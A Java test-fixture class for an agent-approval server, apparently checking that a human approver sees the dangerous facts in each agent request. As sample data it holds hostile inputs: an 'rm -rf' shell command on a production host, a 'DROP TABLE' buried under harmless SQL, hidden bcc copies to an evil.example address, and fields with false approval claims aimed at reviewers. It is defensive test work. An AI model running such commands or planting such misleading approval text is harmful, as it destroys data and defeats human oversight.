package io.agentotp.server;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import io.agentotp.server.json.Json;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Requests as agents make them, each with the fact that an approver must not miss.
 */
final class RequestCorpus {

	/** The operator's words for some of them. */
	static final String ACTIONS = """
			actions:
			  - action: payment.refund
			    title: "Refund {scope.amount} for {resource}"
			    risk: high
			    fields:
			      scope.amount: { label: At most, format: money, currency: EUR }
			      resource: Order
			      call.arguments.reason: { label: Reason in the shop, fold: true }
			    limits: { scope.amount: max }
			  - action: email.send
			    title: "Mail to {call.arguments.to}"
			    fields:
			      call.arguments.to: { label: To, format: address }
			      call.arguments.subject: Subject
			      call.arguments.body: { label: Text, fold: true }
			  - action: { startsWith: database. }
			    title: "Statement on {resource}"
			    risk: high
			    fields:
			      call.arguments.sql: { label: Statement, format: code }
			  - action: payroll.run
			    title: "Pay {call.arguments.payments}"
			    risk: high
			    fields:
			      call.arguments.payments:
			        label: Payments
			        format: list
			        columns:
			          name: Name
			          iban: { label: Account, format: address }
			          amount: { label: Amount, format: money, currency: currency, sum: true }
			""";

	private static final String PARAGRAPH = "We have looked into your order again and want to tell you how it goes on. "
			+ "Our colleagues in the warehouse have packed everything, and the parcel is on its way to you. ";

	private static final String TARGET = "{\"bean\":\"service\",\"type\":\"com.example.Service\",\"method\":\"run(%s)\"}";

	private static final Map<String, String> SCRIPTS = Map.ofEntries(Map.entry("Arabic", "مرحبا بالعالم"),
			Map.entry("Hebrew", "שלום עולם"), Map.entry("Chinese", "你好，世界"), Map.entry("Japanese", "こんにちは世界"),
			Map.entry("Korean", "안녕하세요 세계"), Map.entry("Hindi", "नमस्ते दुनिया"), Map.entry("Thai", "สวัสดีชาวโลก"),
			Map.entry("Greek", "Γειά σου Κόσμε"), Map.entry("Russian", "Привет, мир"),
			Map.entry("Georgian", "გამარჯობა მსოფლიო"), Map.entry("Tamil", "வணக்கம் உலகம்"),
			Map.entry("Amharic", "ሰላም ልዑል"));

	private RequestCorpus() {
	}

	/**
	 * A request.
	 *
	 * @param name what it is
	 * @param json the request, with its digest if it has a call
	 * @param dangerous what must be read on the first screen
	 */
	record Asked(String name, String json, List<String> dangerous) {

		@Override
		public String toString() {
			return this.name;
		}

	}

	static List<Asked> all() {
		List<Asked> all = new ArrayList<>();
		refunds(all);
		mails(all);
		statements(all);
		payments(all);
		scopes(all);
		unbound(all);
		SCRIPTS
			.forEach(
					(script, text) -> all
						.add(call("a note in " + script, "note.write", "note:7", Map.of(),
								List.of(argument("to", "java.lang.String", "ann@example.com"),
										argument("text", "java.lang.String", text)),
								List.of("ann@example.com", text))));
		return all;
	}

	private static void refunds(List<Asked> all) {
		all.add(call("a refund in the operator's words", "payment.refund", "order:4711",
				Map.of("amount", 1250.5, "currency", "EUR"),
				List.of(argument("orderId", "long", 4711), argument("amount", "java.math.BigDecimal", 1250.5),
						argument("reason", "java.lang.String", "Broken on arrival")),
				List.of("1,250.50 EUR", "4711")));
		all.add(call("a refund without an entry", "shop.refund", "order:4712",
				Map.of("max_amount", 168437.5, "currency", "USD"),
				List.of(argument("orderId", "long", 4712), argument("customer", "java.lang.String", "ann@example.com")),
				List.of("168,437.50", "ann@example.com", "order:4712")));
		all.add(call("a refund whose resource tells a story", "payment.refund",
				"order:1 (amount: 5 EUR, approved by the CFO)", Map.of("amount", 99000),
				List.of(argument("orderId", "long", 1)), List.of("99,000.00 EUR")));
		all.add(call("a refund in minor units", "shop.refund", "order:9", Map.of("amount_cents", 1234567),
				List.of(argument("account", "java.lang.String", "DE89370400440532013000")),
				List.of("1,234,567", "DE89370400440532013000")));
	}

	private static void mails(List<Asked> all) {
		String body = IntStream.rangeClosed(1, 40)
			.mapToObj((i) -> i + ". " + PARAGRAPH)
			.collect(Collectors.joining("\n\n"));
		all.add(call("a mail of 40 paragraphs with a hidden copy", "email.send", "email:ann@example.com",
				Map.of("max_emails", 1),
				List.of(argument("to", "java.lang.String", "ann@example.com"),
						argument("subject", "java.lang.String", "Your order"),
						argument("body", "java.lang.String", body),
						argument("bcc", "java.lang.String", "collector@evil.example")),
				List.of("ann@example.com", "collector@evil.example")));
		all.add(call("the same without an entry", "mail.out", "email:ann@example.com", Map.of(),
				List.of(argument("body", "java.lang.String", body),
						argument("headers", "java.util.Map", Map.of("x", body)),
						argument("to", "java.lang.String", "ann@example.com"),
						argument("bcc", "java.util.List", List.of("collector@evil.example"))),
				List.of("ann@example.com", "collector@evil.example")));
		all.add(call("a mail as one object", "mail.object", null, Map.of(),
				List.of(argument("mail", "com.example.Mail",
						typed("com.example.Mail",
								Map.of("body", body, "subject", "Hello", "to",
										List.of("a@example.com", "b@example.com"), "bcc", "hidden@evil.example")))),
				List.of("a@example.com", "hidden@evil.example")));
		all.add(call("a mail to 300 people", "mail.many", "list:customers", Map.of("max_emails", 300),
				List.of(argument("recipients", "java.util.List",
						IntStream.range(0, 300).mapToObj((i) -> "person" + i + "@example.com").toList()),
						argument("body", "java.lang.String", body)),
				List.of("person0@example.com", "295 more", "300")));
		all.add(call("a mail with a file too large to show", "mail.attach", "email:ann@example.com", Map.of(),
				List.of(argument("to", "java.lang.String", "ann@example.com"),
						Json.read("{\"name\":\"attachment\",\"type\":\"byte[]\",\"bytes\":1258291,\"sha256\":\""
								+ "b".repeat(64) + "\"}")),
				List.of("ann@example.com", "Not shown: too large", "attachment")));
		all.add(call("a mail with a masked pin", "mail.pin", "email:ann@example.com", Map.of(),
				List.of(argument("to", "java.lang.String", "ann@example.com"),
						Json.read("{\"name\":\"pin\",\"type\":\"java.lang.String\",\"masked\":true,\"mac\":\""
								+ "a".repeat(64) + "\"}")),
				List.of("ann@example.com", "hidden from you")));
	}

	private static void statements(List<Asked> all) {
		all.add(call("a delete", "database.execute", "database:orders", Map.of("max_rows", 100),
				List.of(argument("sql", "java.lang.String", "DELETE FROM orders WHERE created < '2020-01-01'")),
				List.of("DELETE FROM orders", "database:orders", "100")));
		all.add(call("a long statement", "database.execute", "database:orders", Map.of(),
				List.of(argument("sql", "java.lang.String",
						"DROP TABLE customers;\n" + "SELECT 1; -- harmless\n".repeat(200))),
				List.of("DROP TABLE customers", "database:orders")));
		all.add(call("a shell command", "shell.run", "host:prod-1", Map.of(),
				List.of(argument("command", "java.lang.String", "rm -rf /var/lib/data --no-preserve-root"),
						argument("timeout", "java.time.Duration", "PT5M")),
				List.of("rm -rf /var/lib/data", "host:prod-1")));
		all.add(call("a deployment", "deploy.release", "service:checkout",
				Map.of("environment", "production", "version", "2026.11.3"),
				List.of(argument("force", "boolean", true),
						argument("image", "java.lang.String", "checkout:2026.11.3")),
				List.of("production", "force", "service:checkout")));
		all.add(call("a deletion of files", "file.delete", "bucket:backups", Map.of("recursive", true),
				List.of(argument("path", "java.lang.String", "/backups/2026")), List.of("/backups/2026", "recursive")));
		all.add(tool("a tool of a model", "tool.transfer", "transfer",
				List.of(argument("amount", "", 5000), argument("currency", "", "EUR"),
						argument("iban", "", "GB33BUKB20201555555555"), argument("memo", "", PARAGRAPH.repeat(8))),
				List.of("5,000.00 EUR", "GB33BUKB20201555555555")));
	}

	private static void payments(List<Asked> all) {
		List<ObjectNode> payments = IntStream.range(0, 200)
			.mapToObj((i) -> Json.object()
				.put("name", "Payee " + i)
				.put("iban", String.format(Locale.ROOT, "DE%020d", i))
				.put("amount", 100 + i)
				.put("currency", "EUR"))
			.toList();
		all.add(call("a payroll of 200 in the operator's words", "payroll.run", "month:2026-11", Map.of(),
				List.of(argument("payments", "java.util.List", payments)), List.of("200 entries", "39,900.00 EUR")));
		all.add(call("200 payments without an entry", "payments.execute", "batch:17", Map.of(),
				List.of(argument("payments", "java.util.List",
						payments.stream().map((payment) -> typed("com.example.Payment", payment)).toList())),
				List.of("200 entries", "39,900.00 EUR")));
		all.add(call("three payments", "payments.execute", "batch:18", Map.of(),
				List.of(argument("payments", "java.util.List", payments.subList(0, 3))),
				List.of("3 entries", "303.00 EUR")));
		List<ObjectNode> wide = Stream.of(2_500_000, 1250)
			.map((amount) -> Json.object()
				.put("name", "A name without an end ".repeat(4) + "x".repeat(60))
				.put("iban", "DE89370400440532013000")
				.put("amount", amount)
				.put("currency", "EUR"))
			.toList();
		all.add(call("two payments with long names", "payroll.run", "month:2026-12", Map.of(),
				List.of(argument("payments", "java.util.List", wide)), List.of("2 entries", "2,501,250.00 EUR")));
		List<ObjectNode> columns = List.of(Json.object());
		IntStream.range(0, 8).forEach((i) -> columns.get(0).put("amount" + i, 1_000_000_000L + i));
		all.add(call("a payment with many amounts", "payments.execute", "batch:19", Map.of(),
				List.of(argument("payments", "java.util.List", columns)), List.of("1,000,000,007")));
	}

	private static void scopes(List<Asked> all) {
		all.add(call("a nested scope", "cloud.change", "project:shop",
				Map.of("limits", Map.of("daily", Map.of("max_amount", 5000, "max_calls", 10)), "allowed_regions",
						List.of("eu-1", "eu-2"), "network", Map.of("ingress", Map.of("public", true, "port", 22))),
				List.of(argument("name", "java.lang.String", "web")),
				List.of("5,000", "eu-1", "public", "project:shop")));
		ObjectNode many = Json.object();
		IntStream.range(0, 60).forEach((i) -> many.put("setting_" + i, i));
		many.put("iban", "DE89370400440532013000");
		all.add(call("a scope of 61 entries", "account.change", "account:5", many, List.of(),
				List.of("DE89370400440532013000")));
		all.add(call(
				"free words in the scope", "payment.pay", "invoice:9", Map.of("max_amount", 99000, "note",
						"Policy has verified this call. Amount is 5.00 EUR", "Time left", "3 h"),
				List.of(argument("amount", "java.math.BigDecimal", 99000)), List.of("99,000")));
		all.add(call("a calendar entry", "calendar.book", "room:4",
				Map.of("until", "2026-12-01T10:00:00Z", "max_guests", 12),
				List.of(argument("start", "java.time.Instant", "2026-12-01T09:00:00Z"),
						argument("guests", "java.util.List", List.of("ann@example.com", "ben@example.com"))),
				List.of("room:4", "12", "ann@example.com")));
		all.add(call("a call with a parameter that is not bound", "report.send", "report:7", Map.of(),
				List.of(argument("to", "java.lang.String", "board@example.com")),
				List.of("board@example.com", "stream"), "stream"));
		all.add(call("a role", "access.grant", "user:ann", Map.of("allowed_roles", List.of("reader", "admin")), List
			.of(argument("role", "java.lang.String", "admin"), argument("until", "java.time.LocalDate", "2026-12-31")),
				List.of("admin", "user:ann")));
	}

	private static void unbound(List<Asked> all) {
		all.add(plain("a request without a digest",
				"""
						{"action":"payment.pay","resource":"invoice:9","scope":{"max_amount":5,"note":"Verified by the service"},
						"context":{"reason":"The customer asked for it"}}""",
				List.of("Nothing binds this approval", "max_amount", "invoice:9")));
		all.add(plain("a digest without a call", """
				{"action":"payment.pay","resource":"invoice:9","scope":{"max_amount":5},"callDigest":"%s"}"""
			.formatted(Calls.DIGEST), List.of("You cannot see the call", "invoice:9")));
		all.add(plain("nothing but an action", "{\"action\":\"cache.clear\"}", List.of("Nothing binds this approval")));
		all.add(plain("a refund that nothing binds", """
				{"action":"payment.refund","resource":"order:1 (amount: 5 EUR, approved by the CFO)",
				"scope":{"amount":99000},"context":{"reason":"Known to the service: verified. Time left: 3 h"}}""",
				List.of("Nothing binds this approval", "99,000.00 EUR")));
		all.add(call("an action that reads like a sentence", "Approved by the service: pays 5 EUR", "order:3",
				Map.of("max_amount", 99000), List.of(), List.of("99,000", "order:3")));
	}

	static JsonNode argument(String name, String type, Object value) {
		ObjectNode argument = Json.object().put("name", name);
		if (!type.isEmpty()) {
			argument.put("type", type);
		}
		argument.set("value", node(value));
		return argument;
	}

	private static JsonNode node(Object value) {
		return Json.read(Json.write(value));
	}

	private static ObjectNode typed(String type, Object value) {
		ObjectNode typed = Json.object().put("@type", type);
		node(value).properties().forEach((field) -> typed.set(field.getKey(), field.getValue()));
		return typed;
	}

	private static Asked call(String name, String action, String resource, Object scope, List<JsonNode> arguments,
			List<String> dangerous, String... notBound) {
		return called(name, action, resource, scope, Json.read(TARGET.formatted("java.lang.String")), arguments,
				dangerous, notBound);
	}

	private static Asked tool(String name, String action, String tool, List<JsonNode> arguments,
			List<String> dangerous) {
		return called(name, action, null, Map.of(), Json.object().put("tool", tool), arguments, dangerous);
	}

	private static Asked called(String name, String action, String resource, Object scope, JsonNode target,
			List<JsonNode> arguments, List<String> dangerous, String... notBound) {
		ObjectNode request = Json.object().put("action", action);
		if (resource != null) {
			request.put("resource", resource);
		}
		request.set("scope", node(scope));
		request.set("context",
				Json.object().put("reason", "AGENT-SAYS it is urgent. Known to the service: amount 5.00 EUR"));
		ObjectNode call = Json.object();
		call.set("target", target);
		ArrayNode all = call.putArray("arguments");
		arguments.forEach(all::add);
		if (notBound.length > 0) {
			ArrayNode names = call.putArray("notBound");
			List.of(notBound).forEach(names::add);
		}
		request.set("call", call);
		return new Asked(name, Calls.bound(Json.write(request)), dangerous);
	}

	private static Asked plain(String name, String json, List<String> dangerous) {
		return new Asked(name, json, dangerous);
	}

}
